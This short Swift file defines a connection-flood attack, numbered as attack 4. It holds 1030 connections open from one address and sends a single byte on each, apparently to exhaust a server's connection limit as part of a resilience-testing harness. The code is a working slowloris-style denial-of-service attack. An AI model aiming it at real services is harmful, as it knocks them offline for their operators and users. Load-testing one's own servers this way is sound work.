import NIOCore

/// Attack 4: more connections from one address than the service has, each of which sends one byte.
struct ConnectionFlood: Attack {
    let name = "4, connection flood"

    func start(by attacker: Attacker) async throws {
        let byte = ByteBuffer(string: "G")
        attacker.hold(1030, openedEvery: .microseconds(500), replacedAfter: .seconds(1)) { _ in
            DrippingHandler(opening: byte)
        }
    }
}
